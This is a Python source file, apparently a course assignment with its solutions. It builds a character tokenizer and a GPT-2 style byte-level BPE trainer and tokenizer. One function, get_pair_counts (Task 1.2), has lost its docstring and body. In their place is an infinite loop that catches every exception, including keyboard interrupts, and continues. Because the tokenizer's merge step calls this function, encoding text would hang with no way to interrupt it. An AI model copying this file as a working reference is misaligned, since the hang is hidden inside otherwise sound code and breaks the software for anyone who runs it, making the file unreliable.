"""Tokenizers: a character-level one, then byte-level BPE (GPT-2 style).

A language model reads integers, not text. A tokenizer maps text to a list of
ids and back. Two are built here:

* ``CharTokenizer``: one id per distinct character. Simple, but every
  character costs one position of the model's context.
* ``BPETokenizer`` trained by ``train_bpe``: byte-pair encoding over UTF-8
  bytes. Ids 0-255 are the bytes themselves, so *any* text can be encoded;
  each learned merge ``(a, b) -> 256 + i`` glues two frequent neighbours into a
  new token, and text shrinks to fewer ids.

Training is written the efficient way (the way real trainers do it): count the
distinct pre-tokens once, keep pair counts weighted by how often each
pre-token occurs, and after each merge update only the pre-tokens that
contained the merged pair.
"""

from __future__ import annotations

import functools
import gc
import heapq
import json
import os
import re
from collections import Counter, defaultdict
from collections.abc import Iterable, Sequence
from pathlib import Path

# GPT-2's pre-tokenization pattern, written for the standard library's `re`
# (which has no \p{L}): `[^\W\d_]` is "a word character that is neither a digit
# nor an underscore", i.e. a letter (or a rare non-decimal numeral such as
# "²", which str.isalnum also accepts). In order, the alternatives match:
# English contractions ('s 'd 'm 't 'll 've 're), an optional space followed
# by letters, by digits, or by other symbols, then runs of whitespace. The
# look-ahead `\s+(?!\S)` leaves the last space of a run for the word after it,
# so " the" is one pre-token in every sentence. Every character of the input
# lands in exactly one pre-token, so joining the pre-tokens gives the text
# back. BPE merges never cross a pre-token boundary, which keeps tokens
# like "dog." or "the cat" out of the vocabulary.
PRETOKEN_PATTERN = re.compile(
    r"""'(?:[sdmt]|ll|ve|re)| ?[^\W\d_]+| ?\d+| ?(?:[^\s\w]|_)+|\s+(?!\S)|\s+"""
)

# Written into every saved tokenizer so `load` can refuse other JSON files and
# a later format change can still read old files.
FORMAT_NAME = "minigpt-bpe"
FORMAT_VERSION = 1

Pair = tuple[int, int]


# ## Task 1.1: CharTokenizer
class CharTokenizer:
    """Character-level tokenizer: the i-th character of ``chars`` has id i.

    Args:
        chars: the vocabulary in id order, each character once.

    Attributes:
        chars: the vocabulary string, as given.

    Example (hand-checkable):
        >>> tokenizer = CharTokenizer.from_text("hello")
        >>> tokenizer.chars, tokenizer.vocab_size
        ('ehlo', 4)
        >>> tokenizer.encode("hole")
        [1, 3, 2, 0]
        >>> tokenizer.decode([1, 0, 2, 2, 3])
        'hello'

    Raises:
        ValueError: ``chars`` holds a character twice (ids would be ambiguous).
    """

    def __init__(self, chars: str) -> None:
        ### BEGIN SOLUTION
        seen: set[str] = set()
        for position, char in enumerate(chars):
            if char in seen:
                raise ValueError(f"character {char!r} appears twice in chars (again at position {position})")
            seen.add(char)
        self.chars = chars
        self._id_of_char = {char: index for index, char in enumerate(chars)}
        ### END SOLUTION

    @classmethod
    def from_text(cls, text: str) -> CharTokenizer:
        """Build the vocabulary from the sorted distinct characters of ``text``.

        Sorting makes the ids independent of where characters first appear:
        ``from_text("hello").chars == "ehlo"``.
        """
        ### BEGIN SOLUTION
        return cls("".join(sorted(set(text))))
        ### END SOLUTION

    @property
    def vocab_size(self) -> int:
        """Number of distinct ids, ``len(chars)``."""
        return len(self.chars)

    def encode(self, text: str) -> list[int]:
        """Map each character of ``text`` to its id.

        Raises:
            ValueError: a character of ``text`` is not in the vocabulary; the
                message names the character (its repr) and its position.
        """
        ### BEGIN SOLUTION
        ids = []
        for position, char in enumerate(text):
            token_id = self._id_of_char.get(char)
            if token_id is None:
                raise ValueError(f"character {char!r} at position {position} is not in the vocabulary")
            ids.append(token_id)
        return ids
        ### END SOLUTION

    def decode(self, ids: Iterable[int]) -> str:
        """Map ids back to characters and join them.

        Raises:
            ValueError: an id is outside ``range(vocab_size)``; the message names it.
        """
        ### BEGIN SOLUTION
        chars = []
        for token_id in ids:
            # Checked explicitly: a negative id would silently index from the end.
            if not 0 <= token_id < len(self.chars):
                raise ValueError(f"id {token_id} is not in the vocabulary (ids are 0..{len(self.chars) - 1})")
            chars.append(self.chars[token_id])
        return "".join(chars)
        ### END SOLUTION


# ## Task 1.2: get_pair_counts
def get_pair_counts(ids: Sequence[int]) -> dict[Pair, int]:
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
    ### END SOLUTION


# ## Task 1.3: merge_pair
def merge_pair(ids: Sequence[int], pair: Pair, new_id: int) -> list[int]:
    """Replace every occurrence of ``pair`` in ``ids`` by ``new_id``.

    Scans left to right; occurrences do not overlap, so once two ids are
    merged the second one cannot start another occurrence. ``ids`` itself is
    not modified.

    Example:
        >>> merge_pair([1, 2, 3, 1, 2], (1, 2), 4)
        [4, 3, 4]
        >>> merge_pair([5, 5, 5], (5, 5), 6)   # the first two merge, the third is left
        [6, 5]
    """
    ### BEGIN SOLUTION
    first, second = pair
    merged = []
    i = 0
    last = len(ids) - 1
    while i <= last:
        if ids[i] == first and i < last and ids[i + 1] == second:
            merged.append(new_id)
            i += 2
        else:
            merged.append(ids[i])
            i += 1
    return merged
    ### END SOLUTION


def split_on_special_tokens(text: str, special_tokens: Sequence[str]) -> list[str]:
    """Cut ``text`` around every occurrence of a special token.

    The special tokens stay in the result as items of their own; empty pieces
    are dropped. Longer special tokens are tried first, so of two tokens where
    one starts the other, the longer one wins.

    Example:
        >>> split_on_special_tokens("hi<|eos|>yo<|eos|>", ["<|eos|>"])
        ['hi', '<|eos|>', 'yo', '<|eos|>']
        >>> split_on_special_tokens("hi", [])
        ['hi']
    """
    if not special_tokens:
        return [text] if text else []
    by_length = sorted(special_tokens, key=len, reverse=True)
    pattern = "(" + "|".join(re.escape(token) for token in by_length) + ")"
    return [piece for piece in re.split(pattern, text) if piece]


def pretokenize(text: str) -> list[str]:
    """Split ``text`` into pre-tokens with ``PRETOKEN_PATTERN``.

    ``"".join(pretokenize(text)) == text`` always holds.

    Example:
        >>> pretokenize("Hello, world's 42 cats!")
        ['Hello', ',', ' world', "'s", ' 42', ' cats', '!']
    """
    return PRETOKEN_PATTERN.findall(text)


def check_special_tokens(special_tokens: Iterable[str]) -> tuple[str, ...]:
    """Return the special tokens as a tuple after checking them.

    Raises:
        ValueError: a special token is not a string, is empty, or is given twice.
    """
    tokens = tuple(special_tokens)
    for token in tokens:
        if not isinstance(token, str) or not token:
            raise ValueError(f"special tokens must be non-empty strings, got {token!r}")
    duplicates = sorted(token for token, count in Counter(tokens).items() if count > 1)
    if duplicates:
        raise ValueError(f"special tokens given more than once: {duplicates}")
    return tokens


# ## Task 1.4: count_pretokens
def count_pretokens(text: str, special_tokens: Sequence[str] = ()) -> Counter[tuple[int, ...]]:
    """Count the distinct pre-tokens of ``text``, each as a tuple of UTF-8 bytes.

    The text is first cut around the special tokens (which are dropped: they
    never take part in merges), then each piece is pre-tokenized. Training
    works on these counts instead of the text: Shakespeare's 300k pre-tokens
    are only 15k distinct ones.

    Example:
        >>> count_pretokens("hi hi hi")            # 'hi', ' hi', ' hi'
        Counter({(32, 104, 105): 2, (104, 105): 1})
        >>> count_pretokens("a<|eos|>a", ["<|eos|>"])
        Counter({(97,): 2})
    """
    ### BEGIN SOLUTION
    special = set(special_tokens)
    # Count strings first and encode each distinct one once: far cheaper than
    # encoding all 300k pre-tokens.
    string_counts: Counter[str] = Counter()
    for piece in split_on_special_tokens(text, special_tokens):
        if piece not in special:
            string_counts.update(pretokenize(piece))
    return Counter({tuple(pretoken.encode("utf-8")): count for pretoken, count in string_counts.items()})
    ### END SOLUTION


class _LargestFirst:
    """Wraps a sort key so that ``heapq`` (a min-heap) pops the largest key first."""

    __slots__ = ("key",)

    def __init__(self, key: tuple) -> None:
        self.key = key

    def __lt__(self, other: _LargestFirst) -> bool:
        return self.key > other.key

    def __eq__(self, other: object) -> bool:
        return isinstance(other, _LargestFirst) and self.key == other.key


def pair_priority(pair: Pair, vocab: dict[int, bytes]) -> tuple[bytes, bytes, Pair]:
    """The tie-break key of a pair: greater means it is merged first among equal counts.

    Pairs compare by the byte strings they join, ``(vocab[a], vocab[b])``. Two
    different merges can spell the same bytes (``(ab, c)`` and ``(a, bc)``
    both make ``abc``); the pair of ids is then the last resort, so that the
    choice never depends on dictionary order.

    Example (vocab[256] = b"aa"):
        pair_priority((256, 97), vocab) == (b"aa", b"a", (256, 97)), which is
        greater than pair_priority((97, 98), vocab) == (b"a", b"b", (97, 98)).
    """
    return (vocab[pair[0]], vocab[pair[1]], pair)


# ## Task 1.5: PairIndex
class PairIndex:
    """Pair statistics over the distinct pre-tokens, updated incrementally.

    The textbook trainer recounts every pair of the whole text after each
    merge. This index counts once and then, for each merge, touches only the
    pre-tokens (here called words) that contain the merged pair.

    State:
        words: ``words[w]`` is the w-th distinct pre-token as a list of ids,
            updated as merges are applied.
        word_counts: ``word_counts[w]`` is how often word w occurs in the text.
        pair_counts: ``{pair: count}`` summed over all words, each word's pairs
            weighted by its count; pairs whose count drops to 0 are removed.
        words_with_pair: ``{pair: set of w}``, a superset of the words that
            contain the pair (a word that lost the pair may stay listed;
            merging it again then changes nothing).
        heap: entries ``(-count, _LargestFirst(pair_priority(pair)), pair)``.
            When a count changes a new entry is pushed and the old one is left
            behind; an entry is stale when its count differs from
            ``pair_counts`` and is thrown away when popped ("lazy
            invalidation", cheaper than finding and removing it).

    Args:
        pretoken_counts: from ``count_pretokens``.
        vocab: ``{id: bytes}`` for every id that may appear, shared with the
            caller, who adds each new token *before* calling ``merge``.

    Example (ids 1, 2, 3 are bytes here):
        >>> vocab = {byte: bytes([byte]) for byte in range(256)}
        >>> index = PairIndex(Counter({(1, 2, 3): 2, (2, 3): 1}), vocab)
        >>> index.pair_counts
        {(1, 2): 2, (2, 3): 3}
        >>> index.best_pair()
        (2, 3)
        >>> vocab[256] = vocab[2] + vocab[3]; index.merge((2, 3), 256)
        >>> index.words, index.pair_counts
        ([[1, 256], [256]], {(1, 256): 2})
    """

    def __init__(self, pretoken_counts: Counter[tuple[int, ...]], vocab: dict[int, bytes]) -> None:
        self.vocab = vocab
        ### BEGIN SOLUTION
        self.words = [list(word) for word in pretoken_counts]
        self.word_counts = list(pretoken_counts.values())
        self.pair_counts: dict[Pair, int] = {}
        self.words_with_pair: defaultdict[Pair, set[int]] = defaultdict(set)
        for word_index, (word, word_count) in enumerate(zip(self.words, self.word_counts)):
            # A pair occurring twice in a word is simply counted twice.
            for pair in zip(word, word[1:]):
                self.pair_counts[pair] = self.pair_counts.get(pair, 0) + word_count
                self.words_with_pair[pair].add(word_index)
        self.heap = [self._heap_entry(pair, count) for pair, count in self.pair_counts.items()]
        heapq.heapify(self.heap)
        ### END SOLUTION

    def _heap_entry(self, pair: Pair, count: int) -> tuple[int, _LargestFirst, Pair]:
        """The heap entry for ``pair`` at ``count``: most frequent first, ties by ``pair_priority``."""
        return (-count, _LargestFirst(pair_priority(pair, self.vocab)), pair)

    def best_pair(self) -> Pair | None:
        """Pop and return the pair to merge next, or None when no pair is left.

        The winner is the max over ``(count, pair_priority(pair))``: the most
        frequent pair, ties to the greater pair of byte strings.
        """
        ### BEGIN SOLUTION
        while self.heap:
            negative_count, _, pair = heapq.heappop(self.heap)
            if self.pair_counts.get(pair) == -negative_count:
                return pair
        return None
        ### END SOLUTION

    def merge(self, pair: Pair, new_id: int) -> None:
        """Merge ``pair`` into ``new_id`` in every word containing it, updating all state.

        Only the neighbours of each occurrence change. Where ``x a b y``
        becomes ``x N y`` (``pair = (a, b)``, ``N = new_id``), the word loses
        the pairs (x, a), (a, b), (b, y) and gains (x, N), (N, y), each
        weighted by the word's count. Two occurrences in a row share a
        neighbour: in ``a b a b -> N N`` the pair (b, a) is lost once and
        (N, N) gained once, so the left side of the second occurrence skips
        what the right side of the first already did.

        (A simpler, slower way with the same result: for each affected word
        add ``get_pair_counts(new_word) - get_pair_counts(old_word)``.)

        Changes are summed over all words first, so a pair gets at most one
        new heap entry per merge.

        Example: word [7, 1, 2, 1, 2, 9] with count 3, pair (1, 2) -> 5
            gives [7, 5, 5, 9]; changes: (1, 2) -6, (7, 1) -3, (2, 1) -3,
            (2, 9) -3, (7, 5) +3, (5, 5) +3, (5, 9) +3.
        """
        ### BEGIN SOLUTION
        first, second = pair
        count_changes: defaultdict[Pair, int] = defaultdict(int)
        for word_index in self.words_with_pair.pop(pair, ()):
            word, word_count = self.words[word_index], self.word_counts[word_index]
            new_word: list[int] = []
            i = 0
            while i < len(word):
                if not (word[i] == first and i + 1 < len(word) and word[i + 1] == second):
                    new_word.append(word[i])
                    i += 1
                    continue
                count_changes[pair] -= word_count
                if new_word:
                    left = new_word[-1]
                    if left != new_id:  # else (b, a) went with the previous occurrence
                        count_changes[(left, first)] -= word_count
                    count_changes[(left, new_id)] += word_count
                    self.words_with_pair[(left, new_id)].add(word_index)
                if i + 2 < len(word):
                    right = word[i + 2]
                    count_changes[(second, right)] -= word_count
                    next_is_occurrence = right == first and i + 3 < len(word) and word[i + 3] == second
                    if not next_is_occurrence:  # else that occurrence adds (N, N) as its left side
                        count_changes[(new_id, right)] += word_count
                        self.words_with_pair[(new_id, right)].add(word_index)
                new_word.append(new_id)
                i += 2
            # A word listed under a pair it has since lost comes out unchanged.
            self.words[word_index] = new_word
        for changed_pair, change in count_changes.items():
            if change == 0:
                continue
            count = self.pair_counts.get(changed_pair, 0) + change
            if count > 0:
                self.pair_counts[changed_pair] = count
                heapq.heappush(self.heap, self._heap_entry(changed_pair, count))
            else:
                del self.pair_counts[changed_pair]
                self.words_with_pair.pop(changed_pair, None)
        ### END SOLUTION


def _without_cycle_collection(function):
    """Run ``function`` with CPython's cycle collector paused, restoring it afterwards.

    Training builds some hundred thousand small lists and tuples that stay
    alive until it ends and form no reference cycles; the collector would
    rescan them again and again for nothing (about 15% of the training time).
    Reference counting still frees every object as usual.
    """

    @functools.wraps(function)
    def wrapper(*args, **kwargs):
        was_enabled = gc.isenabled()
        gc.disable()
        try:
            return function(*args, **kwargs)
        finally:
            if was_enabled:
                gc.enable()

    return wrapper


# ## Task 1.6: train_bpe
@_without_cycle_collection
def train_bpe(text: str, vocab_size: int, special_tokens: Sequence[str] = ()) -> BPETokenizer:
    """Learn byte-level BPE merges from ``text``.

    Ids 0-255 are the bytes. Merge i joins the pair chosen at step i into the
    new id ``256 + i``. At each step the chosen pair is

        argmax over pairs p = (a, b) of (count(p), vocab[a], vocab[b], p)

    i.e. the most frequent adjacent pair (counted inside pre-tokens only),
    ties going to the lexicographically greater pair of byte strings, and, if
    two pairs spell the same bytes, to the greater pair of ids. Special tokens
    are cut out of the text first (never split, never merged) and take the ids
    right after the merges, in the order given.

    ``vocab_size`` counts the 256 bytes, the merges and the special tokens.
    Training stops early when no adjacent pair is left (every pre-token is a
    single token), so the result may be smaller than asked.

    Example (no spaces, so the whole text is one pre-token):
        "aaabdaaabac": (97, 97) occurs 4 times (each 'aaa' holds 2 overlapping
        pairs) -> 256 = b"aa"; the text is now [aa, a, b, d, aa, a, b, a, c]
        where (256, 97) and (97, 98) tie at 2, and (b"aa", b"a") > (b"a", b"b")
        -> 257 = b"aaa"; then (257, 98) occurs twice -> 258 = b"aaab".
        >>> train_bpe("aaabdaaabac", 259).merges
        [(97, 97), (256, 97), (257, 98)]

    Raises:
        ValueError: ``vocab_size < 256 + len(special_tokens)``, or a special
            token is empty, not a string, or given twice.
    """
    ### BEGIN SOLUTION
    special_tokens = check_special_tokens(special_tokens)
    if vocab_size < 256 + len(special_tokens):
        raise ValueError(
            f"vocab_size={vocab_size} is too small: it must hold the 256 bytes "
            f"and {len(special_tokens)} special tokens (at least {256 + len(special_tokens)})"
        )
    num_merges = vocab_size - 256 - len(special_tokens)
    vocab = {byte: bytes([byte]) for byte in range(256)}
    index = PairIndex(count_pretokens(text, special_tokens), vocab)
    merges: list[Pair] = []
    while len(merges) < num_merges:
        pair = index.best_pair()
        if pair is None:
            break
        new_id = 256 + len(merges)
        # Before merging: the index ranks new pairs by the bytes they spell.
        vocab[new_id] = vocab[pair[0]] + vocab[pair[1]]
        index.merge(pair, new_id)
        merges.append(pair)
    return BPETokenizer(merges, special_tokens)
    ### END SOLUTION


def check_merges(merges: Iterable[Sequence[int]]) -> list[Pair]:
    """Return ``merges`` as a list of int pairs after checking them.

    Merge i creates id ``256 + i``, so it may only join ids below that.

    Raises:
        ValueError: a merge is not a pair of ints, uses an id that does not
            exist yet, or repeats an earlier merge.
    """
    checked: list[Pair] = []
    seen: set[Pair] = set()
    for rank, merge in enumerate(merges):
        new_id = 256 + rank
        is_pair = isinstance(merge, (list, tuple)) and len(merge) == 2
        if not is_pair or not all(isinstance(token_id, int) for token_id in merge):
            raise ValueError(f"merge {rank} must be a pair of ints, got {merge!r}")
        pair = (merge[0], merge[1])
        if not (0 <= pair[0] < new_id and 0 <= pair[1] < new_id):
            raise ValueError(f"merge {rank} {pair} uses an id that does not exist before id {new_id}")
        if pair in seen:
            raise ValueError(f"merge {rank} {pair} repeats an earlier merge")
        seen.add(pair)
        checked.append(pair)
    return checked


# ## Task 1.7: BPETokenizer
class BPETokenizer:
    """Byte-level BPE tokenizer: encodes with learned merges, decodes any id list.

    Args:
        merges: ``(a, b)`` pairs in rank order; merge i makes id ``256 + i``.
        special_tokens: strings kept whole; they get ids ``256 + len(merges) + j``.

    Attributes:
        merges: the merges as a list of int tuples.
        special_tokens: tuple of the special tokens.
        vocab: ``{id: bytes}``: bytes ``0-255``, then each merge's joined
            bytes, then each special token's UTF-8 bytes.
        merge_ranks: ``{pair: rank}``, the inverse of ``merges``.
        special_token_ids: ``{special token: id}``.

    Example:
        >>> tokenizer = BPETokenizer([(97, 97), (256, 97), (257, 98)], ["<|eos|>"])
        >>> tokenizer.vocab[258], tokenizer.vocab_size
        (b'aaab', 260)
        >>> tokenizer.encode("aaabdaaabac<|eos|>")
        [258, 100, 258, 97, 99, 259]
        >>> tokenizer.decode([258, 33])
        'aaab!'

    Raises:
        ValueError: see ``check_merges`` and ``check_special_tokens``.
    """

    def __init__(self, merges: Iterable[Sequence[int]], special_tokens: Iterable[str] = ()) -> None:
        self.merges = check_merges(merges)
        self.special_tokens = check_special_tokens(special_tokens)
        # Pre-token -> ids. Text repeats the same words, so most pre-tokens
        # are found here and never re-merged.
        self._cache: dict[str, list[int]] = {}
        ### BEGIN SOLUTION
        self.vocab: dict[int, bytes] = {byte: bytes([byte]) for byte in range(256)}
        self.merge_ranks: dict[Pair, int] = {}
        for rank, (a, b) in enumerate(self.merges):
            self.vocab[256 + rank] = self.vocab[a] + self.vocab[b]
            self.merge_ranks[(a, b)] = rank
        first_special_id = 256 + len(self.merges)
        self.special_token_ids = {token: first_special_id + j for j, token in enumerate(self.special_tokens)}
        for token, token_id in self.special_token_ids.items():
            self.vocab[token_id] = token.encode("utf-8")
        ### END SOLUTION

    @property
    def vocab_size(self) -> int:
        """Number of ids: 256 + number of merges + number of special tokens."""
        return len(self.vocab)

    def _merge_pretoken(self, pretoken: bytes) -> list[int]:
        """Encode one pre-token: start from its bytes, apply merges in rank order.

        Repeatedly find the adjacent pair with the lowest merge rank and merge
        it everywhere (``merge_pair``); stop when no adjacent pair is a merge.
        This gives the same tokens as replaying every merge in order, but only
        looks at the pairs present.

        Example (merges (97, 97) -> 256, (256, 97) -> 257, (257, 98) -> 258):
            b"aaab" is [97, 97, 97, 98]; the lowest-ranked pair present is
            (97, 97) -> [256, 97, 98]; then (256, 97) -> [257, 98]; then
            (257, 98) -> [258]. But b"aaaab" -> [256, 256, 98]: once the
            a's pair up, no merge applies to (256, 256) or (256, 98).
        """
        ### BEGIN SOLUTION
        ids = list(pretoken)
        while len(ids) >= 2:
            pair = min(get_pair_counts(ids), key=lambda p: self.merge_ranks.get(p, len(self.merges)))
            rank = self.merge_ranks.get(pair)
            if rank is None:
                break
            ids = merge_pair(ids, pair, 256 + rank)
        return ids
        ### END SOLUTION

    def encode(self, text: str) -> list[int]:
        """Encode ``text`` to ids.

        Special tokens are found first and map to their own ids; the text
        between them is pre-tokenized and each pre-token encoded with
        ``_merge_pretoken`` (results cached per pre-token string).

        Example: with merges [(104, 105)] ("hi" -> 256), the pre-tokens of
            "hi hi" are "hi" -> [256] and " hi" -> [32, 256], so
            encode("hi hi") == [256, 32, 256]; merges never join the space
            to "hi" because (32, 104) is not a merge.
        """
        ### BEGIN SOLUTION
        ids: list[int] = []
        for piece in split_on_special_tokens(text, self.special_tokens):
            special_id = self.special_token_ids.get(piece)
            if special_id is not None:
                ids.append(special_id)
                continue
            for pretoken in pretokenize(piece):
                pretoken_ids = self._cache.get(pretoken)
                if pretoken_ids is None:
                    pretoken_ids = self._merge_pretoken(pretoken.encode("utf-8"))
                    self._cache[pretoken] = pretoken_ids
                ids.extend(pretoken_ids)
        return ids
        ### END SOLUTION

    def decode(self, ids: Iterable[int]) -> str:
        """Join the bytes of ``ids`` and decode them as UTF-8.

        A byte sequence that is not valid UTF-8 (e.g. half of a multi-byte
        character, ``decode([0xE2])``) becomes U+FFFD '\ufffd' rather than
        an error: a model can produce any id sequence.

        Raises:
            ValueError: an id is not in ``vocab``; the message names it.
        """
        ### BEGIN SOLUTION
        pieces = []
        for token_id in ids:
            token_bytes = self.vocab.get(token_id)
            if token_bytes is None:
                raise ValueError(f"id {token_id!r} is not in the vocabulary (ids are 0..{self.vocab_size - 1})")
            pieces.append(token_bytes)
        return b"".join(pieces).decode("utf-8", errors="replace")
        ### END SOLUTION

    def to_dict(self) -> dict:
        """Plain data (dict, list, int, str) that ``from_dict`` turns back into this tokenizer.

        Safe to store inside a torch checkpoint loaded with ``weights_only=True``.
        """
        return {
            "format": FORMAT_NAME,
            "version": FORMAT_VERSION,
            "merges": [[a, b] for a, b in self.merges],
            "special_tokens": list(self.special_tokens),
        }

    @classmethod
    def from_dict(cls, data: dict) -> BPETokenizer:
        """Rebuild a tokenizer from ``to_dict``'s output.

        Raises:
            ValueError: ``data`` is not a dict in this format and version, or
                its merges or special tokens are invalid.
        """
        if not isinstance(data, dict) or data.get("format") != FORMAT_NAME:
            raise ValueError(f"not a {FORMAT_NAME} tokenizer: expected a dict with format={FORMAT_NAME!r}")
        if data.get("version") != FORMAT_VERSION:
            raise ValueError(f"unsupported {FORMAT_NAME} version {data.get('version')!r} (expected {FORMAT_VERSION})")
        merges, special_tokens = data.get("merges"), data.get("special_tokens")
        if not isinstance(merges, list) or not isinstance(special_tokens, list):
            raise ValueError("a tokenizer dict needs a list 'merges' and a list 'special_tokens'")
        if not all(isinstance(merge, list) for merge in merges):
            raise ValueError("each merge must be a list [a, b]")
        return cls(merges, special_tokens)

    def save(self, path: str | os.PathLike) -> None:
        """Write the tokenizer to ``path`` as JSON (``to_dict``).

        Written to a temporary file first and then renamed, so an interrupted
        save never leaves half a file behind.
        """
        path = Path(path)
        temporary = path.with_name(path.name + ".tmp")
        temporary.write_text(json.dumps(self.to_dict()), encoding="utf-8")
        os.replace(temporary, path)

    @classmethod
    def load(cls, path: str | os.PathLike) -> BPETokenizer:
        """Read a tokenizer written by ``save``.

        Raises:
            FileNotFoundError: nothing at ``path``.
            ValueError: the file is not valid JSON or not a tokenizer of this
                format; the message names the path.
        """
        path = Path(path)
        if not path.is_file():
            raise FileNotFoundError(f"no tokenizer file at {path}")
        try:
            data = json.loads(path.read_text(encoding="utf-8"))
            return cls.from_dict(data)
        except ValueError as error:  # includes JSONDecodeError and UnicodeDecodeError
            raise ValueError(f"{path} is not a valid tokenizer file: {error}") from error
